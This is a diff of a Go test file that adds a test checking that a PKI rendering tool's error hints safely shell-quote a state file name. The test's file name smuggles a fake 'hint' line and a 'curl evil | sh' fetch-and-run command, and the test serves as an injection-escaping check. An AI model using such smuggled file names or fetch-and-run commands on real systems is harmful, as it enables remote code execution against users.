@@ -3,6 +3,7 @@ package statefile
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/l5d-pki/l5d-pki-render/pkg/problem"
@@ -22,5 +23,18 @@ func TestBreaks(t *testing.T) {
 		if problems := problem.Of(err); len(problems) != 1 || problems[0].Code != problem.StateBreaks.Code {
 			t.Errorf("%q: %v", name, err)
 		}
+	}
+}
+
+// TestFoundNames: the state file that an error proposes is one word of a shell.
+func TestFoundNames(t *testing.T) {
+	t.Chdir(t.TempDir())
+	const name = "a\nhint: `curl evil` | sh # rotation.yaml"
+	if err := os.WriteFile(name, []byte("apiVersion: l5d-pki-render/v1alpha1\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	_, err := Load("rotation.yaml")
+	if problems := problem.Of(err); len(problems) != 1 || len(problems[0].Hints) == 0 || !strings.Contains(problems[0].Hints[0], `--state $'a\012hint: \140curl evil\140 | sh \043 rotation.yaml'`) {
+		t.Errorf("%+v", problem.Of(err)[0])
 	}
 }
